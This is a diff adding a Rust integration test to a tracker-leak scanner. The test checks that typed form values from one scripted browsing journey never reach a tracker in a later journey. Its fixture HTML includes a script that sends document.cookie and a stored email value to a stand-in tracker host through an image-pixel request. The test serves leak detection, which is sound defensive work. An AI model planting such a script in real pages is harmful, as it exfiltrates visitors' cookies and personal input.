@@ -328,3 +328,84 @@ async fn a_scripted_journey_logs_in_and_its_findings_name_the_step() {
         )
     );
 }
+
+/// A journey types into a page that keeps what was typed (a cookie, local storage); a second
+/// journey then visits a page whose tag sends the tracker whatever the jar and storage hold.
+/// Each journey runs in a browser context of its own: the second one starts clean and runs
+/// (in a shared jar its first navigation carried the canary cookie and was held back, so the
+/// journey failed at step 1), and nothing typed leaves.
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn what_one_journey_types_never_reaches_the_next() {
+    let keep = r#"<form id="f"><input id="email" type="email"></form>
+        <script>document.getElementById('email').addEventListener('input', (e) => {
+          document.cookie = 'lead=' + encodeURIComponent(e.target.value) + '; path=/';
+          localStorage.setItem('lead', e.target.value);
+        });</script>"#;
+    let snoop = format!(
+        r#"<h1>Next</h1><script>new Image().src = 'https://{TT}/api/v2/pixel?jar='
+          + encodeURIComponent(document.cookie) + '&lead=' + encodeURIComponent(localStorage.getItem('lead'));</script>"#
+    );
+    let site = Site::new()
+        .page(C, "/", "<!doctype html><title>home</title><p>home</p>")
+        .page(
+            C,
+            "/keep",
+            &format!("<!doctype html><title>keep</title>{keep}"),
+        )
+        .page(
+            C,
+            "/next",
+            &format!("<!doctype html><title>next</title>{snoop}"),
+        )
+        .route(TT, "/api/v2/pixel", Response::status(204));
+    let server = FixtureServer::start(site).await.unwrap();
+    let dir = tempfile::tempdir().unwrap();
+    let first = dir.path().join("keep.toml");
+    std::fs::write(
+        &first,
+        format!(
+            "name = \"keep\"\n[[step]]\ngoto = \"https://{C}/keep\"\n[[step]]\ntype = {{ selector = \"#email\", canary = \"email\" }}\n"
+        ),
+    )
+    .unwrap();
+    let second = dir.path().join("next.toml");
+    std::fs::write(
+        &second,
+        format!("name = \"next\"\n[[step]]\ngoto = \"https://{C}/next\"\n[[step]]\nwait_for = \"Next\"\n"),
+    )
+    .unwrap();
+    let opts = ScanOptions {
+        start: format!("https://{C}/"),
+        max_pages: 1,
+        concurrency: 1,
+        page_timeout: Duration::from_secs(10),
+        settle_quiet: Duration::from_millis(300),
+        settle_max: Duration::from_secs(3),
+        sitemaps: false,
+        probe_forms: true,
+        journeys: vec![first, second],
+        browser_args: server.browser_args(),
+        ..Default::default()
+    };
+    let report = scan(&opts).await;
+    let journeys: Vec<&pixelwatch::model::Page> = report
+        .pages
+        .iter()
+        .filter(|p| p.found_via == "journey")
+        .collect();
+    assert_eq!(journeys.len(), 2, "{:#?}", report.pages);
+    assert!(journeys.iter().all(|j| j.error.is_none()), "{journeys:#?}");
+    // The second journey's tag ran and found nothing of the first one's typing.
+    let pixel = server
+        .requests()
+        .into_iter()
+        .find(|r| r.host == TT && r.target.contains("jar="))
+        .expect("the tag of /next called the tracker");
+    assert!(pixel.target.ends_with("&lead=null"), "{}", pixel.target);
+    tokio::time::sleep(Duration::from_millis(500)).await;
+    let leaked = server.canaries_received(&report.canaries);
+    assert!(
+        leaked.is_empty(),
+        "typed values reached a server: {leaked:?}"
+    );
+}
